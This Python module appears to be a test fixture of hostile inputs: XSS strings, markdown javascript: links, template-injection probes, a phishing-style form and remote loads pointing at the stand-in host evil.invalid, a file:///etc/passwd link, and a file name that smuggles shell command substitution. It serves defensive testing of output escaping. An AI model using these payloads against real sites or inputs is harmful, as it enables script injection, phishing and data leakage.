"""Text that would run in a browser, load something from another host, or leave its place on a page."""

from __future__ import annotations

OTHER_HOST = "http://evil.invalid"
OWNED = "window.owned"
"""What each script of them sets."""

_SCRIPTS = (
    "<script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    f"<img src={OTHER_HOST}/pixel.png>",
    "<svg/onload=window.owned=1>",
    '"><script>window.owned=1</script><a href="',
    "'><script>window.owned=1</script>",
    '" onmouseover=window.owned=1 autofocus onfocus=window.owned=1 x="',
    "</textarea></title></style></code></pre><script>window.owned=1</script>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    f"<form action={OTHER_HOST}><button>Sign in</button></form>",
    f"<base href={OTHER_HOST}/><meta http-equiv=refresh content='0;url={OTHER_HOST}'>",
    f"<link rel=stylesheet href={OTHER_HOST}/a.css><style>*{{background:url({OTHER_HOST}/b)}}</style>",
    f"<div hx-get={OTHER_HOST} hx-trigger=load hx-on:click=window.owned=1></div>",
    "<details open ontoggle=window.owned=1><summary>x</summary></details>",
    "<dialog open>Sign in again</dialog>",
    "[a](javascript:window.owned=1) [b](JaVaScRiPt:window.owned=1) [c](data:text/html,<script>owned=1)",
    f"![d]({OTHER_HOST}/d.png) ![e][f]\n\n[f]: {OTHER_HOST}/f.png",
    f"<{OTHER_HOST}/auto> [g](//evil.invalid/g) [h](vbscript:x) [i](file:///etc/passwd)",
    "<javascript:window.owned=1>",
    '[j](https://evil.invalid "x\\" onclick=window.owned=1")',
    "{{ 7777 * 3 }} {% raw %} ${window.owned=1} <%= 1 %> #{1}",
    "\u202eesrever\u202c \u2066\u2028\u2029",
    "&lt;script&gt; &#60;script&#62; &amp;quot;",
    "javascript:window.owned=1",
)
HOSTILE_TEXT = "\n\n".join(_SCRIPTS)
HOSTILE_LINE = " ".join(_SCRIPTS).replace("\n", " ")
HOSTILE_NAME = (
    "a\"><script>owned=1<!--'onfocus='owned=1'{{7777*3}}%2e%2e%2f?a=b&c#d;e\\f<svg>"
    '\'$(evil)`evil`;evil|evil&");evil();("'
)
"""Allowed as a name, which has no dot, slash or space; it would run in a shell and in Python, too."""
HOSTILE_FILES = {
    "page.html": f"<html><script>window.owned=1</script><img src={OTHER_HOST}/p></html>".encode(),
    "picture.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><script>window.owned=1</script></svg>',
    "script.js": b"window.owned=1",
    "' onfocus='owned=1' {{7777+3}} %2e%2e%2f&#x3c;img#frag;x.txt": HOSTILE_TEXT.encode(),
    "sniffed": b"<!doctype html><script>window.owned=1</script>",
    "README.md": b'---\nlicense: "<script>window.owned=1</script>"\n---\n' + HOSTILE_TEXT.encode(),
}
